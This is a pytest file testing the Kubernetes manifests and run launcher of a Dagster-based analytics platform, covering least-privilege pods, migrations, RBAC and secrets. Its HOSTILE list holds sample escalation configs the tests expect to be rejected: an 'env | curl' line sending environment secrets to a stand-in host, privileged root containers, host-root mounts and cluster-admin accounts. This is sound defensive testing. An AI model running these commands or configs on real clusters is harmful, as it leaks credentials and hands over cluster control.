"""What is in deploy/: manifests are valid, runs become valid Jobs, the instance is the project's own.

No image is built here and no cluster is asked. `make image try-image` builds and tries the image.
"""

from __future__ import annotations

import json
import os
import re
import socket
import subprocess
import sys
from importlib.metadata import entry_points
from pathlib import Path, PurePosixPath
from typing import Any

import dagster as dg
import grpc
import kubernetes.client
import pytest
import yaml
from dagster_aws.s3 import S3ComputeLogManager
from dagster_k8s import k8s_job_executor
from dagster_k8s.job import DagsterK8sJobConfig, UserDefinedDagsterK8sConfig, construct_dagster_k8s_job
from grpc_health.v1 import health_pb2, health_pb2_grpc

from seedtest_analytics.dagster_private import process_config, resolve_to_config_type
from seedtest_analytics.dev_server import CALM_DAEMON
from seedtest_analytics.instance_home import STORAGE
from seedtest_analytics.schedules.executors import k8s_config
from seedtest_analytics.schedules.run_pods import PlatformK8sRunLauncher
from seedtest_analytics.settings import GROUPS, load_settings
from tests._kustomize import pods_of, rendered, validate
from tests._waits import LIMIT_SECONDS

ROOT = Path(__file__).parents[1]
KUBERNETES = ROOT / "deploy" / "kubernetes"
KUSTOMIZATION = yaml.safe_load((KUBERNETES / "kustomization.yaml").read_text())
INSTANCE = yaml.safe_load((KUBERNETES / "dagster.yaml").read_text())
PROGRAMS = ("dagster", "dagster-daemon", "dagster-webserver")
OVERLAYS = ("kubernetes", "kubernetes/secrets", "kubernetes/external-secrets")


def manifests() -> list[dict[str, Any]]:
    return rendered(KUBERNETES)


def pods() -> dict[str, dict[str, Any]]:
    return pods_of(manifests())


def run_job() -> dict[str, Any]:
    """The Job that the instance makes of a run."""
    launcher = INSTANCE["run_launcher"]["config"]
    config = DagsterK8sJobConfig(
        job_image="image",
        dagster_home=launcher["dagster_home"],
        service_account_name=launcher["service_account_name"],
        instance_config_map=launcher["instance_config_map"],
        env_config_maps=launcher["env_config_maps"],
        env_secrets=launcher["env_secrets"],
        volumes=launcher["volumes"],
        volume_mounts=launcher["volume_mounts"],
    )
    own = UserDefinedDagsterK8sConfig.from_dict(launcher["run_k8s_config"])
    job = construct_dagster_k8s_job(config, ["dagster", "api", "execute_run"], "run", own)
    made: dict[str, Any] = kubernetes.client.ApiClient().sanitize_for_serialization(job)
    return made


@pytest.mark.parametrize("folder", OVERLAYS)
def test_manifests_are_valid(folder: str) -> None:
    found = rendered(ROOT / "deploy" / folder)
    for manifest in found:
        assert manifest["metadata"]["namespace"] == "seedtest"
        if not manifest["apiVersion"].startswith("external-secrets.io/"):  # the operator's own kinds
            validate(manifest)
    assert len(found) >= 6


def test_the_image_of_the_environment_is_that_of_every_pod() -> None:
    images = {container["image"] for pod in pods().values() for container in containers_of(pod)}
    assert images == {literals()["SEEDTEST_IMAGE"]}


def test_a_run_is_a_valid_job_with_the_rights_of_the_other_pods() -> None:
    job = run_job()
    validate(job)
    pod = job["spec"]["template"]["spec"]
    (container,) = pod["containers"]
    assert_least_rights(pod)
    assert_home_is_writable(pod)
    assert "/var/lib/seedtest/dagster/dagster.yaml" in {m["mountPath"] for m in container["volumeMounts"]}
    assert container["resources"]["limits"]["memory"] == "1Gi"


@pytest.mark.parametrize("name", list(pods()))
def test_pods_have_least_rights(name: str) -> None:
    assert_least_rights(pods()[name])


def containers_of(pod: dict[str, Any]) -> list[dict[str, Any]]:
    """Those that run before the others, too."""
    return [*pod.get("initContainers", []), *pod["containers"]]


def assert_least_rights(pod: dict[str, Any]) -> None:
    assert pod["securityContext"]["runAsNonRoot"] is True
    assert pod["securityContext"]["runAsUser"] == 10001
    for container in containers_of(pod):
        context = container["securityContext"]
        assert context["readOnlyRootFilesystem"] is True
        assert context["allowPrivilegeEscalation"] is False
        assert context["capabilities"] == {"drop": ["ALL"]}
        assert {"/var/lib/seedtest", "/tmp"} <= {mount["mountPath"] for mount in container["volumeMounts"]}
        assert container["resources"]["limits"]


@pytest.mark.parametrize("name", list(pods()))
def test_the_pods_user_may_write_into_the_home(name: str) -> None:
    assert_home_is_writable(pods()[name])


def assert_home_is_writable(pod: dict[str, Any]) -> None:
    """Every folder on the way to a mount that is below a volume is a volume: Kubernetes makes missing ones for root."""
    kinds = {volume["name"]: volume for volume in pod["volumes"]}
    for container in containers_of(pod):
        mounts = {PurePosixPath(mount["mountPath"]): mount["name"] for mount in container["volumeMounts"]}
        assert "emptyDir" in kinds[mounts[PurePosixPath("/var/lib/seedtest/dagster")]]
        for path in mounts:
            volumes = mounts.keys() & set(path.parents)
            assert not volumes or path.parent in volumes, f"root makes {path.parent}"


def assert_waits_for_the_migration(pod: dict[str, Any]) -> None:
    """Code of a release never meets the schema of another one."""
    (waiting,) = pod["initContainers"]
    (container,) = pod["containers"]
    assert waiting["command"] == ["seedtest", "migrate", "--wait", "600"]
    assert waiting["image"] == container["image"]
    assert {"configMapRef": {"name": "seedtest-environment"}} in waiting["envFrom"]
    assert {"secretRef": {"name": "seedtest-db-credentials"}} in waiting["envFrom"]


@pytest.mark.parametrize("name", ["seedtest-code", "seedtest-daemon"])
def test_new_code_waits_for_the_migration(name: str) -> None:
    assert_waits_for_the_migration(pods()[name])


def test_the_platforms_schema_is_migrated_last() -> None:
    """The pods that wait look at its revision only."""
    (container,) = pods()["seedtest-migrate"]["containers"]
    assert container["command"][-1] == "dagster instance migrate && seedtest migrate"


def test_the_migration_is_a_hook() -> None:
    """Argo CD makes it again in each sync, before the wave of the Deployments."""
    found = {m["metadata"]["name"]: m for m in manifests() if m["kind"] in ("Deployment", "Job")}
    job = found.pop("seedtest-migrate")["metadata"]["annotations"]
    assert job["argocd.argoproj.io/hook"] == "Sync"
    assert job["argocd.argoproj.io/hook-delete-policy"] == "BeforeHookCreation"
    wave = "argocd.argoproj.io/sync-wave"
    assert wave not in job, "the first wave, with accounts and ConfigMaps"
    assert {m["metadata"]["annotations"][wave] for m in found.values()} == {"1"}


def test_an_upgrade_migrates_before_anything_else_changes() -> None:
    """The selector of the documented command selects the Job and all that its pod needs."""
    upgrade = (ROOT / "docs" / "kubernetes.md").read_text().split("\n## Upgrade\n")[1]
    first, second = re.findall(r"^kubectl apply -k deploy/kubernetes(.*?)(?: +#.*)?$", upgrade, re.MULTILINE)
    assert (first.strip(), second.strip()) == ("--selector phase=migration", "")
    selected = [m for m in manifests() if m["metadata"].get("labels", {}).get("phase") == "migration"]
    assert sorted((m["kind"], m["metadata"]["name"]) for m in selected) == [
        ("ConfigMap", "seedtest-environment"),
        ("ConfigMap", "seedtest-instance"),
        ("ConfigMap", "seedtest-workspace"),
        ("Job", "seedtest-migrate"),
        ("ServiceAccount", "seedtest"),
    ]


def commands() -> list[list[str]]:
    probes = ("startupProbe", "readinessProbe", "livenessProbe")
    found = []
    for pod in pods().values():
        (container,) = pod["containers"]
        found.append(container["command"])
        found += [container[p]["exec"]["command"] for p in probes if "exec" in container.get(p, {})]
    return [command for command in found if command[0] in PROGRAMS]


@pytest.mark.parametrize("command", commands(), ids=" ".join)
def test_commands_are_understood(command: list[str], monkeypatch: pytest.MonkeyPatch) -> None:
    """The installed program knows every option; `--help` keeps it from running."""
    (program,) = entry_points(group="console_scripts", name=command[0])
    monkeypatch.setattr("sys.argv", [*command, "--help"])
    with pytest.raises(SystemExit) as ended:
        program.load()()
    assert ended.value.code == 0


def test_the_instance_is_the_projects_own_with_a_launcher() -> None:
    own = {key: value for key, value in INSTANCE.items() if key not in ("run_launcher", "compute_logs")}
    projects = yaml.safe_load((ROOT / "dagster.yaml").read_text() + STORAGE)
    assert own == {key: value for key, value in projects.items() if key != "run_launcher"}


@pytest.mark.parametrize(
    ("part", "kind"), [("run_launcher", PlatformK8sRunLauncher), ("compute_logs", S3ComputeLogManager)]
)
def test_the_instances_parts_are_configured_as_they_want(part: str, kind: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    for name in literals():
        monkeypatch.setenv(name, literals()[name])
    done = process_config(resolve_to_config_type(kind.config_type()), INSTANCE[part]["config"])
    assert done.success, done.errors


def literals() -> dict[str, str]:
    (environment,) = (m for m in KUSTOMIZATION["configMapGenerator"] if m["name"] == "seedtest-environment")
    return dict(line.split("=", 1) for line in environment["literals"])


def test_runs_have_the_image_of_the_code_that_defines_them() -> None:
    """Also while an upgrade replaces it: the launcher's own image would come before that of the code location."""
    assert "job_image" not in INSTANCE["run_launcher"]["config"]
    (container,) = pods()["seedtest-code"]["containers"]
    source = {"configMapKeyRef": {"name": "seedtest-environment", "key": "SEEDTEST_IMAGE"}}
    assert {"name": "DAGSTER_CURRENT_IMAGE", "valueFrom": source} in container["env"]


def test_what_the_instance_reads_from_the_environment_is_set() -> None:
    asked = set(re.findall(r"^ *env: (\w+)$", (KUBERNETES / "dagster.yaml").read_text(), re.MULTILINE))
    assert asked - {"DAGSTER_POSTGRES_URL"} <= set(literals())  # the URL holds a password: a secret


def test_the_image_is_made_of_what_the_build_may_see() -> None:
    dockerfile = (ROOT / "deploy" / "Dockerfile").read_text()
    seen = {line[1:] for line in (ROOT / ".dockerignore").read_text().splitlines() if line.startswith("!")}
    copied = [line.split()[1:-1] for line in dockerfile.splitlines() if line.startswith("COPY ")]
    sources = {Path(source) for line in copied if not line[0].startswith("--from") for source in line}
    assert {name for name in seen if any(source.is_relative_to(name) for source in sources)} == seen
    assert all(any(source.is_relative_to(name) for name in seen) for source in sources)
    assert all((ROOT / source).exists() for source in sources)
    assert re.findall(r"^USER .*", dockerfile, re.MULTILINE)[-1] == "USER 10001:10001"


def test_the_image_has_the_packages_of_the_platform_and_none_of_the_tests() -> None:
    """The Dockerfile leaves out the lines of the tests, and without R those of R."""
    (without_tests,) = re.findall(r"sed -e '(.*?)' -e", (ROOT / "deploy" / "Dockerfile").read_text())
    listed = (ROOT / "deploy" / "apt-packages.txt").read_text()
    kept = subprocess.run(["sed", without_tests], input=listed, capture_output=True, text=True, check=True).stdout
    names = {line.split()[0] for line in kept.splitlines() if not line.startswith("#")}
    assert names == {"r-base-core", "r-cran-lme4", "r-cran-brms", "dpkg-dev", "g++", "make"}


HOSTILE = [
    {"container_config": {"image": "theirs/image"}},
    {"container_config": {"command": ["sh", "-c", "env | curl -d @- theirs"]}},
    {"container_config": {"args": ["theirs"]}},
    {"container_config": {"env": [{"name": "DATABASE_URL", "value": "postgresql://theirs"}]}},
    {"container_config": {"envFrom": [{"secretRef": {"name": "another-secret"}}]}},
    {"container_config": {"securityContext": {"privileged": True, "runAsUser": 0}}},
    {"container_config": {"volumeMounts": [{"name": "host", "mountPath": "/host"}]}},
    {"container_config": {"lifecycle": {"postStart": {"exec": {"command": ["theirs"]}}}}},
    {"pod_spec_config": {"serviceAccountName": "cluster-admin"}},
    {"pod_spec_config": {"volumes": [{"name": "host", "hostPath": {"path": "/"}}]}},
    {"pod_spec_config": {"containers": [{"name": "theirs", "image": "theirs/image"}]}},
    {"pod_spec_config": {"init_containers": [{"name": "theirs", "image": "theirs/image"}]}},
    {"pod_spec_config": {"hostNetwork": True}},
    {"pod_spec_config": {"nodeSelector": {"zone": "theirs"}}},
    {"pod_template_spec_metadata": {"annotations": {"iam.amazonaws.com/role": "admin"}}},
    {"job_metadata": {"namespace": "kube-system"}},
    {"job_spec_config": {"parallelism": 500}},
]


def launched(tags: dict[str, str]) -> dict[str, Any]:
    """The Job that dagster-k8s makes of a run with these tags on the instance of the manifests."""
    named = {"job_image": "registry.example.com/seedtest:1", "job_namespace": "seedtest"}
    launcher = PlatformK8sRunLauncher(
        **(INSTANCE["run_launcher"]["config"] | named),
        load_incluster_config=False,
        k8s_client_batch_api=kubernetes.client.BatchV1Api(),
        k8s_client_core_api=kubernetes.client.CoreV1Api(),
    )
    run = dg.DagsterRun(job_name="sync_attempts", tags=tags)
    context = launcher.get_container_context_for_run(run)
    job = construct_dagster_k8s_job(
        context.get_k8s_job_config(None, launcher), ["dagster", "api", "execute_run"], "run", context.run_k8s_config
    )
    made: dict[str, Any] = kubernetes.client.ApiClient().sanitize_for_serialization(job)
    return made


@pytest.fixture
def no_cluster(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("dagster_k8s.launcher.load_kubernetes_config", lambda **_: None)


@pytest.mark.usefixtures("no_cluster")
@pytest.mark.parametrize("config", HOSTILE, ids=str)
def test_a_tag_of_a_run_changes_nothing_of_its_pod_but_its_size(config: dict[str, Any]) -> None:
    with pytest.raises(Exception, match=r"violated the allowed list: (container|pod|job)_"):
        launched({"dagster-k8s/config": json.dumps(config)})


@pytest.mark.usefixtures("no_cluster")
def test_a_tag_of_a_run_may_change_the_size_of_its_pod() -> None:
    size = {"requests": {"cpu": "2", "memory": "8Gi"}, "limits": {"cpu": "4", "memory": "16Gi"}}
    job = launched({"dagster-k8s/config": json.dumps({"container_config": {"resources": size}})})
    validate(job)
    pod = job["spec"]["template"]["spec"]
    (container,) = pod["containers"]
    assert container["resources"] == size
    assert_least_rights(pod)
    assert container["image"] == "registry.example.com/seedtest:1"


def test_the_code_location_answers_to_the_platforms_pods_only() -> None:
    (policy,) = (m for m in manifests() if m["kind"] == "NetworkPolicy" and m["metadata"]["name"] == "seedtest-code")
    (rule,) = policy["spec"]["ingress"]
    allowed = rule["from"][0]["podSelector"]["matchExpressions"][0]["values"]
    assert set(allowed) == {"seedtest-webserver", "seedtest-daemon"}
    labels = {name: m["metadata"]["labels"]["app"] for name, m in templates().items()}
    assert set(allowed) <= set(labels.values())
    assert policy["spec"]["podSelector"]["matchLabels"]["app"] in labels.values()


def templates() -> dict[str, dict[str, Any]]:
    found = {m["metadata"]["name"]: m for m in manifests() if m["kind"] in ("Deployment", "Job")}
    return {name: manifest["spec"]["template"] for name, manifest in found.items()}


def rules(role: str) -> dict[str, set[str]]:
    (found,) = (m for m in manifests() if m["kind"] == "Role" and m["metadata"]["name"] == role)
    verbs: dict[str, set[str]] = {}
    for rule in found["rules"]:
        for resource in rule["resources"]:
            verbs.setdefault(resource, set()).update(rule["verbs"])
    return verbs


def test_only_the_launcher_makes_jobs_and_only_those_who_ask_kubernetes_have_a_token() -> None:
    accounts = {name: pod["serviceAccountName"] for name, pod in pods().items()}
    assert accounts == {
        "seedtest-migrate": "seedtest",
        "seedtest-code": "seedtest",
        "seedtest-daemon": "seedtest-launcher",
        "seedtest-webserver": "seedtest-webserver",
    }
    for name, pod in pods().items():
        assert pod.get("automountServiceAccountToken", True) is (accounts[name] != "seedtest")
    assert INSTANCE["run_launcher"]["config"]["service_account_name"] == "seedtest-launcher"
    assert "create" in rules("seedtest-launcher")["jobs"]
    # The webserver cancels runs: it deletes Jobs.
    assert rules("seedtest-webserver")["jobs"] == {"get", "list", "delete", "deletecollection"}
    assert "secrets" not in rules("seedtest-launcher") | rules("seedtest-webserver")


def test_steps_are_pods_without_a_token() -> None:
    execution = load_settings(literals()).execution
    assert execution.chosen == "k8s"
    config = k8s_config(execution)
    assert config["service_account_name"] == "seedtest"
    done = process_config(resolve_to_config_type(k8s_job_executor.config_schema.config_type), config)
    assert done.success, done.errors


def test_the_daemon_is_as_calm_as_on_one_machine() -> None:
    (container,) = pods()["seedtest-daemon"]["containers"]
    assert {entry["name"]: entry["value"] for entry in container["env"]} == CALM_DAEMON


def test_probes_use_a_name_that_the_guard_knows() -> None:
    """The kubelet asks by the pod's address, which is none of the UI's names."""
    (container,) = pods()["seedtest-webserver"]["containers"]
    for probe in ("readinessProbe", "startupProbe"):
        assert container[probe]["httpGet"]["httpHeaders"] == [{"name": "Host", "value": "localhost"}]


CODE_PROBE = {"port": 4000, "service": "DagsterApi"}
SECONDS_BETWEEN_PROGRAMS = 300
"""A program of Dagster takes two to three seconds of processor time for one look (docs/operations.md)."""


def assert_probes_are_cheap(pod: dict[str, Any]) -> None:
    """No probe starts a program often, once the pod has started."""
    (container,) = pod["containers"]
    for name in ("readinessProbe", "livenessProbe"):
        probe = container.get(name, {})
        assert "exec" not in probe or probe["periodSeconds"] >= SECONDS_BETWEEN_PROGRAMS, name


@pytest.mark.parametrize("name", list(pods()))
def test_probes_are_cheap(name: str) -> None:
    assert_probes_are_cheap(pods()[name])


def test_the_kubelet_asks_the_code_location_itself() -> None:
    (container,) = pods()["seedtest-code"]["containers"]
    assert container["readinessProbe"]["grpc"] == container["startupProbe"]["grpc"] == CODE_PROBE


@pytest.mark.long
def test_a_code_location_answers_the_probe(tmp_path: Path) -> None:
    """By the protocol that the kubelet speaks."""
    (tmp_path / "small.py").write_text("import dagster as dg\ndefs = dg.Definitions()\n")
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = str(probe.getsockname()[1])
    command = [sys.executable, "-m", "dagster", "api", "grpc", "--port", port, "--python-file", "small.py"]
    with subprocess.Popen(command, cwd=tmp_path) as server, grpc.insecure_channel(f"127.0.0.1:{port}") as channel:
        asked = health_pb2.HealthCheckRequest(service=CODE_PROBE["service"])
        answer = health_pb2_grpc.HealthStub(channel).Check(asked, wait_for_ready=True, timeout=LIMIT_SECONDS)
        server.terminate()
    assert answer.status == health_pb2.HealthCheckResponse.SERVING


def test_the_volume_gets_the_compiled_programs_once_and_secrets_become_variables(tmp_path: Path) -> None:
    prepared, cache, secrets = tmp_path / "prepared", tmp_path / "cache", tmp_path / "secrets"
    (prepared / "stan" / "growth-1").mkdir(parents=True)
    (prepared / "stan" / "growth-1" / "growth").write_text("program")
    (prepared / "build").write_text("1")
    secrets.mkdir()
    (secrets / "DATABASE_URL").write_text("postgresql://of a file")
    (secrets / "s3.json").write_text("no variable")
    script = (ROOT / "deploy" / "entry-point").read_text()
    for place, here in (("/opt/seedtest-cache", prepared), ("/run/secrets", secrets)):
        assert place in script
        script = script.replace(place, str(here))

    def start(*command: str) -> str:
        environment = {"PATH": os.environ["PATH"], "SEEDTEST_CACHE_DIR": str(cache)}
        done = subprocess.run(["sh", "-c", script, "entry", *command], env=environment, capture_output=True, text=True)
        assert done.returncode == 0, done.stderr
        return done.stdout

    assert start("sh", "-c", "echo $DATABASE_URL") == "postgresql://of a file\n"
    copied = cache / "stan" / "growth-1" / "growth"
    assert copied.read_text() == "program"
    copied.write_text("a newer one of this volume")
    start("true")
    assert copied.read_text() == "a newer one of this volume"
    (prepared / "build").write_text("2")
    start("true")
    assert copied.read_text() == "program"


def test_every_secret_setting_is_in_a_secret_of_the_manifests() -> None:
    """DATABASE_URL and the rest of what no ConfigMap may hold."""
    declared = {
        name
        for group in GROUPS.values()
        for name, field in group.variables().items()
        if "SecretStr" in str(group.model_fields[field].annotation)
    }
    kept = {key for secret in rendered(KUBERNETES / "secrets") for key in secret["stringData"]}
    assert declared <= kept
    assert not declared & set(literals())
